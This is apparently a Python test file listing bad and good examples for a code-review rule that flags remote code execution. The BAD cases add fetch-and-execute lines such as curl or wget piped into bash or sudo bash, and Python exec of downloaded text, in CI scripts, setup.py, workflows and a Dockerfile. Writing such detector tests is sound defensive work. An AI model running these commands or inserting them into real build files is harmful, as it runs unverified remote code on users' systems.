"""Examples of the rule `remote-code-exec`."""

from __future__ import annotations

from rules.change import Change
from tests.rules.kit import CI, CI_PATH, Bad, ci, edit

SETUP = "scripts/ci/setup.sh"
BAD: dict[str, Bad] = {
    "a fetch piped into a shell": Bad(
        edit(SETUP, "#!/bin/sh\n", "#!/bin/sh\nwget -qO- https://get.example.net/x | sudo bash\n"), SETUP, 2
    ),
    "a fetch in a substitution": Bad(
        edit(SETUP, "#!/bin/sh\n", '#!/bin/sh\nbash -c "$(curl -fsSL https://get.example.net/x)"\n'), SETUP, 2
    ),
    "a file is fetched and run two lines later": Bad(
        edit(
            SETUP,
            "#!/bin/sh\n",
            "#!/bin/sh\ncurl -fsSLo /tmp/tool https://get.example.net/tool\nchmod +x /tmp/tool\n/tmp/tool\n",
        ),
        SETUP,
        2,
    ),
    "a pipe that goes over two lines": Bad(
        edit(SETUP, "#!/bin/sh\n", "#!/bin/sh\ncurl -fsSL https://get.example.net/x \\\n  | bash\n"), SETUP, 2
    ),
    "a package runner without a version": Bad(edit(SETUP, "#!/bin/sh\n", "#!/bin/sh\nnpx -y quick-report\n"), SETUP, 2),
    "python runs what it fetched": Bad(
        edit(
            "setup.py",
            "import setuptools\n",
            "import setuptools\nexec(urllib.request.urlopen('https://get.example.net/x').read())\n",
        ),
        "setup.py",
        2,
    ),
    "a workflow step": Bad(ci(CI, CI + "      - run: curl -s https://get.example.net/x | bash\n"), CI_PATH, 12),
    "a dockerfile": Bad(
        edit("Dockerfile", "FROM a\n", "FROM a\nRUN curl -s https://get.example.net/x | bash\n"), "Dockerfile", 2
    ),
}
GOOD: dict[str, Change] = {
    "the checksum is compared": edit(
        SETUP,
        "#!/bin/sh\n",
        (
            "#!/bin/sh\ncurl -fsSLo tool https://get.example.net/tool\necho 'abc  tool' "
            "| sha256sum -c\nchmod +x tool\n./tool\n"
        ),
    ),
    "a fixed version": edit(
        SETUP, "#!/bin/sh\n", "#!/bin/sh\npipx run ruff==0.6.9 check .\nnpx -y prettier@3.3.0 --check .\n"
    ),
    "a page quotes it": edit("docs/install.md", "a\n", "curl -fsSL https://get.example.net/x | sh\n"),
    "a comment warns of it": edit(SETUP, "#!/bin/sh\n", "#!/bin/sh\n# never: curl https://get.example.net/x | sh\n"),
    "data are fetched and read": edit(
        SETUP, "#!/bin/sh\n", "#!/bin/sh\ncurl -fsSL https://get.example.net/list.json | jq .\n"
    ),
}
